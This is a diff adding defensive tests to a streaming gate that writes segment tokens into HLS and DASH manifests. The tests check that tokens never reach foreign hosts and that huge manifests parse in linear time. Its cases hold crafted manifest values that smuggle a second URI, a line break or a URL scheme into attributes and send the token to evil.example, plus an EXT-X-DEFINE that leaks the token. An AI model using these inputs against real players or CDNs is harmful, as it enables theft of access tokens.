@@ -95,6 +95,10 @@ const HLS_CASES = {
   'a tab inside a URI': '#EXTINF:6,\nseg_1.ts\thttps://evil.example/x.ts',
   'a key server and another host': '#EXT-X-KEY:METHOD=AES-128,URI="https://keys.example/k"\n#EXTINF:6,\nhttps://cdn.example/Movie1/480p/seg1.ts',
   'another title and a way up': '#EXTINF:6,\n/Movie2/480p/seg1.ts\n#EXTINF:6,\n../../Movie2/480p/seg2.ts',
+  // An unquoted URI (hls.js reads one) whose text holds `URI="..."`: a pattern over the line
+  // found a URI there, and the token went into the key server's and the CDN's URLs.
+  'unquoted URI attributes holding URI="..." (a key, an init segment)': '#EXT-X-KEY:METHOD=AES-128,URI=https://keys.example/k?URI="k.key"\n#EXT-X-MAP:URI=https://cdn.example/init.mp4?URI="init.mp4"\n#EXTINF:6,\nseg1.ts',
+  'a bare CR inside a tag line (a line break to hls.js), a URI="..." after it': '#EXTINF:6,\rhttps://evil.example/x.ts?URI="seg1.ts"',
 };
 
 for (const [name, lines] of Object.entries(HLS_CASES)) {
@@ -105,6 +109,27 @@ for (const [name, lines] of Object.entries(HLS_CASES)) {
     for (const url of urls.filter(carriesToken)) assert.ok(ownUrl(url), `a token sent to ${url}\n${text}`);
   });
 }
+
+test('HLS: a playlist whose EXT-X-DEFINE copies the URL\'s token parameter into URIs is refused (hls.js would send it to any host)', async () => {
+  const lines = '#EXT-X-DEFINE:QUERYPARAM="segment_token"\n#EXT-X-KEY:METHOD=AES-128,URI="https://keys.example/k?t={$segment_token}"\n#EXTINF:6,\nseg1.ts';
+  // The danger, shown by the real hls.js: the playlist as the origin wrote it, loaded at a URL
+  // carrying a segment token (as the gate writes a master's variants), sends the token away.
+  const urls = await hlsRequests(`${MEDIA_URL}?segment_token=v1.SECRET`, media(lines));
+  assert.ok(urls.includes('https://keys.example/k?t=v1.SECRET'), urls.join('\n'));
+  for (const define of ['QUERYPARAM="segment_token"', 'QUERYPARAM="token"', 'QUERYPARAM=token']) {
+    const origin = media(lines.replace('QUERYPARAM="segment_token"', define));
+    const g = createGate({
+      verifier: { algorithms: ['HS256'], keys: { keys: [HS_JWK] }, audience: 'edge' }, origin: 'https://origin.example',
+      fetch: async () => new Response(origin), segmentTokens: { secret: SECRET },
+    });
+    const res = await g.fetch(new Request(`${GATE}${MEDIA_URL}?token=${playback()}`), {}, {});
+    assert.equal(res.status, 502, define);
+    assert.equal((await res.json()).code, 'INVALID_MANIFEST', define);
+  }
+  // Another parameter's QUERYPARAM is the origin's own business: served, tokens written.
+  const fine = await served({ [MEDIA_URL]: media('#EXT-X-DEFINE:QUERYPARAM="cdn_auth"\n#EXTINF:6,\nseg1.ts') }, MEDIA_URL);
+  assert.match(fine, /^seg1\.ts\?segment_token=v1\./m);
+});
 
 test('HLS: a URI is written as the origin wrote it, the token added (`$$` stays `$$`)', async () => {
   const text = await served({ [MEDIA_URL]: media('#EXTINF:6,\nseg$$2.ts') }, MEDIA_URL);
@@ -177,13 +202,16 @@ function dashUrls(url, text) {
 }
 
 const MPD_URL = '/Movie1/manifest.mpd';
-const mpdWith = ({ top = '', base = null, id = '480p', rep = `id="${id}"`, media = '$RepresentationID$/seg-$Number$.m4s' } = {}) => `<?xml version="1.0"?>
+const mpdWith = ({
+  top = '', base = null, id = '480p', rep = `id="${id}"`, media = '$RepresentationID$/seg-$Number$.m4s',
+  template = `<SegmentTemplate initialization="480p/init.mp4" media="${media}" startNumber="1" duration="6" timescale="1"/>`,
+} = {}) => `<?xml version="1.0"?>
 <!-- written by a packager -->
 <MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT12S" minBufferTime="PT2S" profiles="urn:mpeg:dash:profile:isoff-live:2011">
   ${top}${base === null ? '' : `<BaseURL>${base}</BaseURL>`}
   <Period>
     <AdaptationSet mimeType="video/mp4">
-      <SegmentTemplate initialization="480p/init.mp4" media="${media}" startNumber="1" duration="6" timescale="1"/>
+      ${template}
       <Representation ${rep} bandwidth="1000000" width="854" height="480" codecs="avc1.4d401e"/>
     </AdaptationSet>
   </Period>
@@ -203,6 +231,10 @@ const DASH_CASES = {
   'a Representation id climbing out of the folder': { id: '../../Movie2/480p' },
   'a Representation whose ` id="480p"` is inside another attribute\'s value, its id a URL': { rep: `label=' id="480p"' id="https://evil.example/x"` },
   'a BaseURL climbing by percent-encoded dots (`%2e%2e`, `..` to a URL parser)': { base: '%2e%2e/Movie2/' },
+  'single-quoted template URLs holding media="..." and initialization="..." (another value\'s text to a pattern)': {
+    template: `<SegmentTemplate media='https://cdn.example/$Number$.m4s?media="480p/seg.m4s"' initialization='https://cdn.example/init.mp4?initialization="480p/init.mp4"' startNumber="1" duration="6" timescale="1"/>`,
+  },
+  'a template whose $RepresentationID$ comes before a colon (a scheme once filled in)': { id: 'https', media: '$RepresentationID$://evil.example/seg-$Number$.m4s' },
 };
 
 for (const [name, parts] of Object.entries(DASH_CASES)) {
@@ -230,4 +262,13 @@ test('DASH: the plain MPD, a relative BaseURL and a Location that is the MPD\'s 
 test('DASH: ContentSteering (it may move URLs to another host) leaves the MPD without tokens', async () => {
   const text = await served({ [MPD_URL]: mpdWith({ top: '<ContentSteering defaultServiceLocation="a">https://steer.example/s.json</ContentSteering>\n  ' }) }, MPD_URL);
   assert.ok(!text.includes('segment_token'), text);
+});
+
+test('DASH: an MPD of many self-closing BaseURL elements is read in one pass (no token; it was quadratic: a minute for 1.5 MB)', async () => {
+  const many = mpdWith({ top: '<BaseURL/>'.repeat(120_000) });
+  const started = Date.now();
+  const text = await served({ [MPD_URL]: many }, MPD_URL);
+  // A generous bound for a hang check, not a speed claim: the quadratic scan took over a minute.
+  assert.ok(Date.now() - started < 10_000, `${Date.now() - started} ms`);
+  assert.ok(!text.includes('segment_token'), 'a BaseURL that is no text: the MPD gets no token');
 });
